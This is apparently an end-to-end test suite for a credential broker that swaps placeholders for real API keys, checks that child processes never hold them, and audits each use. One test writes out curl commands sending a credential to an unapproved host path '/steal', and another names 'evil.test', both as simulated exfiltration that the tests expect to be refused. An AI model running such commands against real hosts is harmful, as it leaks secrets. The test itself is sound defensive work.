/**
 * The broker end to end, with real parts only: the Vault API (in-process, real store), a real
 * HTTPS upstream with its own CA, the broker's proxy on loopback, and real child processes
 * (curl, python3 requests) that hold placeholders. The upstream must receive the value; no
 * process the agent runs may hold it; every brokered request is audited without it.
 */
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Broker, startBroker } from '../../src/broker/broker.js';
import { runBrokered } from '../../src/broker/run.js';
import { Vault } from '../../src/sdk/index.js';
import { startTestVault, type TestVault } from '../support/test-vault.js';
import { openTunnel, readProcesses, startUpstream, type Upstream, viaProxy } from './support.js';

const value = `sk_live_${randomBytes(12).toString('hex')}`;
const bodyValue = `bk_${randomBytes(12).toString('hex')}`;
const otherValue = `ot_${randomBytes(12).toString('hex')}`;
const agent = { type: 'agent' as const, name: 'claude-code' };

describe('vault broker', () => {
  let vault: TestVault;
  let upstream: Upstream;
  let brokerVault: Vault;
  let brokerToken: string;
  let offsetMs = 0;
  const stripe = () => `api.stripe.test:${upstream.port}`;
  const other = () => `other.test:${upstream.port}`;

  beforeAll(async () => {
    vault = await startTestVault({ clock: () => new Date(Date.now() + offsetMs) });
    upstream = await startUpstream(['api.stripe.test', 'other.test', 'unnamed.test']);
    const create = async (name: string, secret: string, metadata: Record<string, string>) => {
      const r = await vault.call('POST', '/v1/credentials', {
        body: { name, type: 'api-key', value: secret, metadata },
      });
      expect(r.status, r.text).toBe(201);
    };
    await create('stripe-api-key', value, { hosts: stripe() });
    await create('form-key', bodyValue, { hosts: stripe(), 'broker.body': 'true' });
    await create('other-key', otherValue, { hosts: other() });
    await create('db-url', 'postgres://u:p@db/x', {});
    const policy = await vault.call('PUT', '/v1/policies/broker', {
      body: { rules: [{ actions: ['read-metadata', 'lease'] }], actFor: [{ type: 'agent', name: '*' }] },
    });
    expect(policy.status, policy.text).toBe(200);
    brokerToken = await vault.tokenFor({ type: 'workload', name: 'vault-broker' }, ['broker']);
    brokerVault = await Vault.connect({ addr: vault.url, token: brokerToken, tenant: vault.tenant });
  });
  afterAll(async () => {
    await upstream?.close();
    await vault?.close();
  });

  const base = {
    agent,
    ttl: '10m',
    clock: () => new Date(),
    get upstream() {
      return {
        ca: upstream.caPem,
        connectTo: (t: { port: number }) => ({ host: '127.0.0.1', port: t.port }),
      };
    },
  };
  const brokered = (
    uses: { credential: string; env?: string }[],
    extra: { allowOtherHosts?: boolean } = {},
  ) => startBroker({ ...base, vault: brokerVault, uses, ...extra });
  const sh = (command: string, uses: { credential: string; env?: string }[], onStart?: (b: Broker) => void) =>
    runBrokered({
      ...base,
      vault: brokerVault,
      uses,
      file: '/bin/sh',
      args: ['-c', command],
      baseEnv: { PATH: process.env.PATH, HOME: process.env.HOME, VAULT_TOKEN: brokerToken },
      timeoutMs: 20_000,
      ...(onStart && { onStart }),
    });
  const useRecords = () => vault.auditLines().filter((r) => r.action === 'lease.use');

  it('curl: the upstream gets the value; the child process tree only ever holds the placeholder', async () => {
    const before = upstream.received.length;
    let placeholder = '';
    const seen: { pid: number; cmdline: string }[] = [];
    const leaks: string[] = [];
    const scan = () => {
      for (const p of readProcesses()) {
        if (!placeholder || !(p.environ.includes(placeholder) || p.cmdline.includes(placeholder))) continue;
        seen.push({ pid: p.pid, cmdline: p.cmdline.replaceAll('\0', ' ') });
        if (p.environ.includes(value) || p.cmdline.includes(value)) leaks.push(`pid ${p.pid}`);
        if (p.environ.includes(brokerToken) || p.cmdline.includes(brokerToken))
          leaks.push(`token in ${p.pid}`);
      }
    };
    const timer = setInterval(scan, 25);
    const result = await sh(
      `curl -sS -i -H "Authorization: Bearer $STRIPE_API_KEY" https://${stripe()}/v1/charges?limit=1; sleep 0.5`,
      [{ credential: 'stripe-api-key' }],
      (b) => {
        placeholder = b.credentials[0]!.placeholder;
      },
    ).finally(() => clearInterval(timer));
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    const got = upstream.received.slice(before);
    expect(got).toHaveLength(1);
    expect(got[0]!.headers.authorization).toBe(`Bearer ${value}`);
    expect(got[0]!.headers['proxy-authorization']).toBeUndefined();
    // The echo came back with the placeholder where the value was, in the body and the header.
    expect(result.stdout).not.toContain(value);
    expect(result.stdout).toContain(`you sent: Bearer ${placeholder}`);
    expect(result.stdout.toLowerCase()).toContain(
      `x-echo-authorization: bearer ${placeholder.toLowerCase()}`,
    );
    // The scan found the shell and curl (placeholder in environ, and in curl's command line).
    expect(seen.some((p) => p.cmdline.startsWith('curl'))).toBe(true);
    expect(leaks).toEqual([]);
    // One lease.use record for the request: the broker acting for the agent, no value, no query.
    const records = useRecords().filter((r) => r.outcome === 'allowed');
    const last = records.at(-1)!;
    expect(last.actor).toEqual({ type: 'workload', name: 'vault-broker' });
    expect(last.actingFor).toEqual(agent);
    expect(last.reason).toBe(`broker GET ${stripe()}/v1/charges`);
    expect(JSON.stringify(vault.auditLines())).not.toContain(value);
    expect(vault.output()).not.toContain(value);
  });

  it('python requests, Basic auth and a body swap where the credential allows it', async () => {
    const before = upstream.received.length;
    const script = [
      'import os, requests',
      `r = requests.post('https://${stripe()}/v1/tokens', auth=('user', os.environ['STRIPE_API_KEY']),`,
      "  data={'key': os.environ['FORM_KEY'], 'other': os.environ['STRIPE_API_KEY']})",
      'print(r.status_code, r.text)',
    ].join('\n');
    const result = await sh(`python3 -c "${script}"`, [
      { credential: 'stripe-api-key' },
      { credential: 'form-key' },
    ]);
    expect(result.stderr).toBe('');
    expect(result.stdout).toMatch(/^200 /);
    const got = upstream.received.slice(before)[0]!;
    expect(got.headers.authorization).toBe(`Basic ${Buffer.from(`user:${value}`).toString('base64')}`);
    // form-key says broker.body: swapped; stripe-api-key does not: its placeholder stays.
    expect(got.body).toContain(`key=${bodyValue}`);
    expect(got.body).toMatch(/other=vault-ph-/);
    expect(got.body).not.toContain(value);
    // The Basic header echoed back is the one the child sent, not the swapped one.
    expect(result.stdout).not.toContain(Buffer.from(`user:${value}`).toString('base64'));
    expect(result.stdout).not.toContain(value);
    expect(result.stdout).not.toContain(bodyValue);
  });

  it('a placeholder sent to a host its credential does not name is not swapped: refused and audited', async () => {
    const before = upstream.received.length;
    const result = await sh(
      `curl -sS -i -H "Authorization: Bearer $STRIPE_API_KEY" https://${other()}/steal; ` +
        `curl -sS -i -H "Authorization: Bearer $STRIPE_API_KEY" http://${other()}/plain; ` +
        `curl -sS -H "X: $STRIPE_API_KEY" https://unnamed.test:${upstream.port}/ 2>&1; true`,
      [{ credential: 'stripe-api-key' }, { credential: 'other-key' }],
    );
    expect(upstream.received.length).toBe(before);
    expect(result.stdout).toContain('403');
    expect(result.stdout).toContain('x-vault-broker: host_not_allowed');
    expect(result.stdout).toContain('does not name in metadata.hosts');
    expect(result.stdout).toContain('over plain HTTP');
    // A host no credential names: the CONNECT itself is refused (the default policy).
    expect(result.stdout).toMatch(/CONNECT tunnel failed, response 403|403/);
    const denied = useRecords().filter((r) => r.outcome === 'denied' && r.reason?.includes('/steal'));
    expect(denied).toHaveLength(1);
    expect(denied[0]!.reason).toContain(`broker GET ${other()}/steal`);
    expect(denied[0]!.actingFor).toEqual(agent);
    expect(useRecords().some((r) => r.outcome === 'denied' && r.reason?.includes('/plain'))).toBe(true);
  });

  it('other hosts are tunnelled untouched when the policy flag allows it (the placeholder arrives, not the value)', async () => {
    const broker = await brokered([{ credential: 'stripe-api-key' }], { allowOtherHosts: true });
    try {
      const before = upstream.received.length;
      const auth = new URL(broker.proxyUrl);
      const response = await viaProxy({
        proxyPort: broker.port,
        proxyAuth: `vault:${auth.password}`,
        host: 'unnamed.test',
        port: upstream.port,
        path: '/x',
        caPem: upstream.caPem, // the upstream's own certificate: the broker did not read inside
        headers: { authorization: `Bearer ${broker.credentials[0]!.placeholder}` },
      });
      expect(response.status).toBe(200);
      expect(upstream.received.slice(before)[0]!.headers.authorization).toBe(
        `Bearer ${broker.credentials[0]!.placeholder}`,
      );
    } finally {
      await broker.close();
    }
  });

  it('refuses clients without the proxy credential', async () => {
    const broker = await brokered([{ credential: 'stripe-api-key' }]);
    try {
      const ca = await import('node:fs').then((fs) => fs.readFileSync(broker.caFile, 'utf8'));
      const target = {
        proxyPort: broker.port,
        host: 'api.stripe.test',
        port: upstream.port,
        path: '/',
        caPem: ca,
      };
      expect((await viaProxy(target)).status).toBe(407);
      expect((await viaProxy({ ...target, proxyAuth: 'vault:wrong' })).status).toBe(407);
      const result = await sh(
        `curl -sS -o /dev/null -w '%{http_code}' -x http://127.0.0.1:${broker.port} http://${other()}/`,
        [{ credential: 'other-key' }],
      );
      expect(result.stdout).toBe('407');
      const auth = new URL(broker.proxyUrl);
      expect((await viaProxy({ ...target, proxyAuth: `vault:${auth.password}` })).status).toBe(200);
    } finally {
      await broker.close();
    }
  });

  it('revoked and expired leases are refused on the very next request, with a clear 4xx', async () => {
    const broker = await brokered([{ credential: 'stripe-api-key' }]);
    try {
      const ca = await import('node:fs').then((fs) => fs.readFileSync(broker.caFile, 'utf8'));
      const auth = new URL(broker.proxyUrl);
      const request = () =>
        viaProxy({
          proxyPort: broker.port,
          proxyAuth: `vault:${auth.password}`,
          host: 'api.stripe.test',
          port: upstream.port,
          path: '/v1/charges',
          caPem: ca,
          headers: { authorization: `Bearer ${broker.credentials[0]!.placeholder}` },
        });
      const timings: number[] = [];
      for (let i = 0; i < 5; i++) {
        const t = performance.now();
        expect((await request()).status).toBe(200);
        timings.push(performance.now() - t);
      }
      // The connection is open (CONNECT and TLS done) before the revocation, so the time below
      // is the broker's: revocation committed → the next request on it refused.
      const tunnel = await openTunnel({
        proxyPort: broker.port,
        proxyAuth: `vault:${auth.password}`,
        host: 'api.stripe.test',
        port: upstream.port,
        caPem: ca,
      });
      const revoked = await vault.call('POST', `/v1/leases/${broker.credentials[0]!.leaseId}/revoke`);
      expect(revoked.status).toBe(200);
      const t0 = performance.now();
      const head = await tunnel.head('/v1/charges', {
        authorization: `Bearer ${broker.credentials[0]!.placeholder}`,
      });
      const refusedMs = performance.now() - t0;
      tunnel.close();
      expect(head).toMatch(/^HTTP\/1\.1 403/);
      expect(head.toLowerCase()).toContain('x-vault-broker: lease_revoked');
      // (How fast is printed below, not asserted: a busy machine must not fail this test.)
      const refused = await request();
      expect(refused.status).toBe(403);
      expect(refused.body).toContain('lease');
      // Forgotten: later requests are refused without asking the API again.
      expect((await request()).headers['x-vault-broker']).toBe('lease_ended');
      process.stdout.write(
        `broker latency: brokered request median ${median(timings).toFixed(1)} ms; refusal after revoke ${refusedMs.toFixed(1)} ms\n`,
      );
    } finally {
      await broker.close();
    }

    const expiring = await brokered([{ credential: 'stripe-api-key' }]);
    try {
      const ca = await import('node:fs').then((fs) => fs.readFileSync(expiring.caFile, 'utf8'));
      const auth = new URL(expiring.proxyUrl);
      const tunnel = await openTunnel({
        proxyPort: expiring.port,
        proxyAuth: `vault:${auth.password}`,
        host: 'api.stripe.test',
        port: upstream.port,
        caPem: ca,
      });
      offsetMs = 11 * 60_000; // past the 10m lease
      const t0 = performance.now();
      const head = await tunnel.head('/', {
        authorization: `Bearer ${expiring.credentials[0]!.placeholder}`,
      });
      const expiredMs = performance.now() - t0;
      tunnel.close();
      expect(expiredMs).toBeLessThan(100);
      expect(head).toMatch(/^HTTP\/1\.1 403/);
      expect(head.toLowerCase()).toContain('x-vault-broker: lease_expired');
      process.stdout.write(`broker latency: refusal after expiry ${expiredMs.toFixed(1)} ms\n`);
    } finally {
      offsetMs = 0;
      await expiring.close();
    }
  });

  it('a credential that names no hosts is not brokered: the error points at vault run', async () => {
    await expect(brokered([{ credential: 'db-url' }])).rejects.toThrow(/names no hosts.*vault run/);
  });

  it('the use endpoint checks the host itself, and the caller needs its own lease grant', async () => {
    const broker = await brokered([{ credential: 'stripe-api-key' }]);
    try {
      const id = broker.credentials[0]!.leaseId;
      const use = { host: 'evil.test', port: 443, method: 'GET', path: '/', outcome: 'allowed' };
      const wrongHost = await vault.call('POST', `/v1/leases/${id}/use`, { token: brokerToken, body: use });
      expect(wrongHost.status).toBe(403);
      const agentToken = await vault.tokenFor(agent, []);
      const asAgent = await vault.call('POST', `/v1/leases/${id}/use`, {
        token: agentToken,
        body: { ...use, host: 'api.stripe.test', port: upstream.port },
      });
      expect(asAgent.status).toBe(403);
    } finally {
      await broker.close();
    }
  });
});

const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]!;
